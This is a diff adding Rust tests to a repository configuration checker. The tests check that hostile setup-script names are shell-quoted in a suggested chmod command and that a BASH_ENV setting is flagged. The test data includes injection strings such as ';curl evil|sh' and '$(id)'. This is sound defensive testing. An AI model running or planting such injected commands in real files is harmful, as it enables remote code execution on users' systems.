@@ -177,6 +177,35 @@ fn text_that_is_no_toml_is_told_with_its_place() {
 }
 
 #[test]
+fn what_is_to_be_pasted_is_quoted_for_the_shell() {
+    for (name, quoted) in [
+        (";curl evil|sh", "`chmod +x ';curl evil|sh'`"),
+        ("$(id)/a'b", r"`chmod +x '$(id)/a'\''b'`"),
+        ("-R", "`chmod +x ./-R`"),
+    ] {
+        let config = format!("[lifecycle]\nsetup_script = \"{name}\"\n");
+        let repository = Repository::new(&config);
+        repository.write(name, "#!/bin/sh\n");
+        let shown = repository.check(&[]);
+        let shown = String::from_utf8_lossy(&shown.stderr).into_owned();
+        assert!(shown.contains(quoted), "{shown}");
+    }
+}
+
+#[test]
+fn variables_that_a_repository_may_not_set_are_told_with_their_place() {
+    let repository = Repository::new("[env]\nA = 1\nBASH_ENV = \"x\"\n");
+    let (document, code) = repository.json(&[]);
+    assert_eq!((code, &document["valid"]), (2, &json!(false)));
+    assert_eq!(document["env"], json!({"A": "1"}));
+    let warning = &document["warnings"][0];
+    assert_eq!(
+        (&warning["line"], &warning["column"]),
+        (&json!(3), &json!(1))
+    );
+}
+
+#[test]
 fn a_setup_script_must_stand_in_the_repository_and_be_executable() {
     let config = "[lifecycle]\nsetup_script = \"scripts/setup.sh\"\n[services.api]\nport = 80\n";
     let repository = Repository::new(config);
